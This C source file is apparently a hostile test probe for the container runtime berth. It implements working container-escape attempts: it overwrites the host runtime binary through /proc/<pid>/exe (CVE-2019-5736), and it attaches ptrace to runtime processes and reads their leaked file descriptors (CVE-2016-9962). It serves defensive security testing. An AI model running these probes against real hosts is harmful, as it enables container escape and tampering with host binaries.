/* A hostile container process for berth's security tests, built static by
 * the test harness (cc -static) and copied into a private rootfs.
 *
 *   probe exe-overwrite SECONDS OUT   CVE-2019-5736: grab /proc/<pid>/exe of
 *       every other process and keep trying to reopen it for writing (the
 *       attack waits for the binary to stop running, then writes it).
 *   probe ptrace-watch SECONDS OUT    CVE-2016-9962: PTRACE_ATTACH to, and
 *       readlink the fds of, every process whose comm is "berth".
 *   probe fds                         list our own fds and their targets.
 *
 * Findings go to OUT, one per line: "WROTE", "ATTACHED", "LEAK", and a
 * final "DONE" line with counters, so the test can tell "not vulnerable"
 * from "never ran".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static FILE *out;

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int read_comm(int pid, char *buf, size_t len) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, len - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    if (buf[n - 1] == '\n') buf[n - 1] = 0;
    return 0;
}

/* Calls f(pid) for every pid in /proc but ours. */
static void each_pid(void (*f)(int)) {
    DIR *d = opendir("/proc");
    if (!d) return;
    struct dirent *e;
    int self = getpid();
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != self) f(pid);
    }
    closedir(d);
}

static int held[MAX_HELD];
static int nheld, opened, attempts, wrote;

static void grab_exe(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    /* Straight for writing first (works only if nothing runs it). */
    int w = open(path, O_WRONLY | O_CLOEXEC);
    attempts++;
    if (w >= 0) {
        if (write(w, "PWNED", 5) == 5) wrote++;
        fprintf(out, "WROTE via %s\n", path);
        close(w);
    }
    if (nheld >= MAX_HELD) return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        held[nheld++] = fd;
        opened++;
    }
}

static void try_held(void) {
    char path[64];
    for (int i = 0; i < nheld; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int w = open(path, O_WRONLY | O_CLOEXEC);
        attempts++;
        if (w >= 0) {
            if (write(w, "PWNED", 5) == 5) wrote++;
            fprintf(out, "WROTE via held fd %d\n", held[i]);
            fflush(out);
            close(w);
        }
    }
}

static int berth_seen, attached, leaks;

static void watch(int pid) {
    char comm[64];
    if (read_comm(pid, comm, sizeof comm) || strncmp(comm, "berth", 5)) return;
    berth_seen++;
    char dir[64], link[384], target[512];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            /* stdio is the caller's to give; anything else is berth's. */
            if (e->d_name[0] == '.' || atoi(e->d_name) < 3) continue;
            snprintf(link, sizeof link, "%s/%s", dir, e->d_name);
            ssize_t n = readlink(link, target, sizeof target - 1);
            if (n > 0) {
                target[n] = 0;
                leaks++;
                fprintf(out, "LEAK pid %d fd %s -> %s\n", pid, e->d_name, target);
            }
        }
        closedir(d);
    }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        /* Only count it if it was still berth when we got it. */
        if (!read_comm(pid, comm, sizeof comm) && !strncmp(comm, "berth", 5)) {
            attached++;
            fprintf(out, "ATTACHED pid %d (%s)\n", pid, comm);
        }
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    fflush(out);
}

int main(int argc, char **argv) {
    if (argc == 2 && !strcmp(argv[1], "fds")) {
        DIR *d = opendir("/proc/self/fd");
        struct dirent *e;
        char link[300], target[512];
        while (d && (e = readdir(d))) {
            if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d)) continue;
            snprintf(link, sizeof link, "/proc/self/fd/%s", e->d_name);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            printf("fd %s %s\n", e->d_name, target);
        }
        return 0;
    }
    if (argc != 4) {
        fprintf(stderr, "usage: probe exe-overwrite|ptrace-watch SECONDS OUT | fds\n");
        return 2;
    }
    double end = now() + atof(argv[2]);
    out = fopen(argv[3], "w");
    if (!out) return 2;
    setvbuf(out, 0, _IOLBF, 0);
    fprintf(out, "READY\n");
    if (!strcmp(argv[1], "exe-overwrite")) {
        while (now() < end) {
            each_pid(grab_exe);
            try_held();
        }
        fprintf(out, "DONE opened=%d attempts=%d wrote=%d\n", opened, attempts, wrote);
    } else if (!strcmp(argv[1], "ptrace-watch")) {
        while (now() < end) each_pid(watch);
        fprintf(out, "DONE berth_seen=%d attached=%d leaks=%d\n", berth_seen, attached, leaks);
    } else {
        return 2;
    }
    fclose(out);
    return 0;
}
